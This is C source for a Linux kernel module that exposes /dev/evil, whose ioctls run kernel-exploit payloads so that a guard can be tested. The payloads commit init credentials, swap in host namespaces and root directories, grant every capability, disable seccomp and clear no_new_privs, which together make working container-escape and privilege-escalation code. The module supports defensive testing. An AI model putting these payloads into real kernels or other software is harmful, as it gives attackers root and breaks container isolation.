// SPDX-License-Identifier: GPL-2.0-only OR Apache-2.0
/*
 * What an exploit does once it runs in the kernel, without the bug that lets it in: /dev/evil runs payload N for
 * ioctl(_IO('E', N)). Only for test machines.
 *
 * The memory that a mapping of the device shows is shared with the caller: the first word is set when payload 10 has
 * struck. References are taken where an exploit would not bother: what is tested is the guard, not how a kernel with
 * wrong counts dies.
 */
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/fs_struct.h>
#include <linux/miscdevice.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/nsproxy.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/seccomp.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>

/* Not exported: exploits compute these, the tests read /proc/kallsyms. */
static unsigned long switch_task_namespaces_at, find_task_by_vpid_at, init_nsproxy_at;
module_param_named(switch_task_namespaces, switch_task_namespaces_at, ulong, 0);
module_param_named(find_task_by_vpid, find_task_by_vpid_at, ulong, 0);
module_param_named(init_nsproxy, init_nsproxy_at, ulong, 0);

#define host_nsproxy ((struct nsproxy *)init_nsproxy_at)

static u64 *shared;
static struct delayed_work strike;
static struct task_struct *victim;

static void switch_namespaces(struct task_struct *task)
{
	void (*function)(struct task_struct *, struct nsproxy *) = (void *)switch_task_namespaces_at;

	get_nsproxy(host_nsproxy);
	function(task, host_nsproxy);
}

static struct task_struct *container_init(void)
{
	struct task_struct *(*function)(pid_t) = (void *)find_task_by_vpid_at;

	return function(1);
}

static void host_cred(void)
{
	commit_creds(prepare_kernel_cred(&init_task));
}

/* The directories of process 1 of the host: that of the idle task lies below the root file system of the boot. */
static void host_root(struct task_struct *task, bool cwd)
{
	struct fs_struct *host, *fs = task->fs;
	struct path root, old_root, old_cwd = {};

	rcu_read_lock();
	host = pid_task(find_pid_ns(1, &init_pid_ns), PIDTYPE_PID)->fs;
	rcu_read_unlock();
	spin_lock(&host->lock);
	root = host->root;
	path_get(&root);
	spin_unlock(&host->lock);
	if (cwd)
		path_get(&root);

	spin_lock(&fs->lock);
	old_root = fs->root;
	fs->root = root;
	if (cwd) {
		old_cwd = fs->pwd;
		fs->pwd = root;
	}
	spin_unlock(&fs->lock);
	path_put(&old_root);
	if (cwd)
		path_put(&old_cwd);
}

/* The old nsproxy keeps its count: its last put would tear the container's mounts down under the caller. */
static void write_nsproxy(struct task_struct *task)
{
	get_nsproxy(host_nsproxy);
	task_lock(task);
	task->nsproxy = host_nsproxy;
	task_unlock(task);
}

static void caps_in_place(void)
{
	struct cred *cred = (struct cred *)current->cred;

	memset(&cred->cap_permitted, 0xff, sizeof(cred->cap_permitted));
	cred->cap_effective = cred->cap_permitted;
	cred->uid = cred->euid = cred->fsuid = GLOBAL_ROOT_UID;
}

static void seccomp_off(void)
{
	current->seccomp.mode = SECCOMP_MODE_DISABLED;
	clear_task_syscall_work(current, SECCOMP);
}

/* The storage's owner must not be freed before it: its map frees it some day, through the task. */
static void strip_label(void)
{
	get_task_struct(current);
	WRITE_ONCE(current->bpf_storage, NULL);
}

static void strike_now(struct work_struct *work)
{
	write_nsproxy(victim);
	host_root(victim, true);
	put_task_struct(victim);
	WRITE_ONCE(shared[0], 1);
}

/* As after a return to user mode by a trampoline: the caller spins there when it happens, on another processor. */
static void strike_later(void)
{
	unsigned int cpu = cpumask_any_but(cpu_online_mask, raw_smp_processor_id());

	victim = get_task_struct(current);
	WRITE_ONCE(shared[0], 0);
	queue_delayed_work_on(cpu < nr_cpu_ids ? cpu : raw_smp_processor_id(), system_wq, &strike, HZ / 20);
}

static long evil_ioctl(struct file *file, unsigned int cmd, unsigned long arg)
{
	switch (cmd) {
	case _IO('E', 1):
		host_cred();
		return 0;
	case _IO('E', 2):
		switch_namespaces(current);
		return 0;
	case _IO('E', 3):
		commit_creds(prepare_kernel_cred(&init_task));
		switch_namespaces(current);
		host_root(current, true);
		return 0;
	case _IO('E', 4):
		switch_namespaces(container_init());
		host_cred();
		return 0;
	case _IO('E', 5):
		write_nsproxy(current);
		host_root(current, true);
		return 0;
	case _IO('E', 6):
		caps_in_place();
		return 0;
	case _IO('E', 7):
		seccomp_off();
		return 0;
	case _IO('E', 8):
		clear_bit(PFA_NO_NEW_PRIVS, &current->atomic_flags);
		return 0;
	case _IO('E', 9):
		host_root(current, false);
		return 0;
	case _IO('E', 10):
		strike_later();
		return 0;
	case _IO('E', 11):
		strip_label();
		write_nsproxy(current);
		host_root(current, true);
		return 0;
	case _IO('E', 12):
		rcu_assign_pointer(current->cred, prepare_kernel_cred(&init_task));
		return 0;
	}
	return -ENOTTY;
}

static int evil_mmap(struct file *file, struct vm_area_struct *vma)
{
	return remap_vmalloc_range(vma, shared, 0);
}

static const struct file_operations evil_operations = {
	.owner = THIS_MODULE,
	.unlocked_ioctl = evil_ioctl,
	.mmap = evil_mmap,
};
static struct miscdevice evil = {.minor = MISC_DYNAMIC_MINOR, .name = "evil", .fops = &evil_operations};

static int __init evil_init(void)
{
	if (!switch_task_namespaces_at || !find_task_by_vpid_at || !init_nsproxy_at)
		return -EINVAL;
	shared = vmalloc_user(PAGE_SIZE);
	if (!shared)
		return -ENOMEM;
	INIT_DELAYED_WORK(&strike, strike_now);
	return misc_register(&evil);
}

module_init(evil_init);
MODULE_DESCRIPTION("payloads of kernel exploits, for tests");
MODULE_LICENSE("GPL");
